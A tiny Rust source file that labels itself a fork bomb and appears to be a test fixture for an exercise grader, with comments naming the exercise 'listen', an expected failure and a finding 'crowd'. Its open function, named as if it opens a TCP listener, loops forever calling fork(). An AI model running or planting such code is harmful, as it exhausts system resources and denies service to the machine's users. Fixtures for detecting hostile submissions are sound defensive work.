//! A fork bomb.
//! exercise: listen
//! fails: listen::1
//! finding: crowd

pub fn open(_address: SocketAddr) -> Result<TcpListener, String> {
    loop {
        let _ = fork();
    }
}
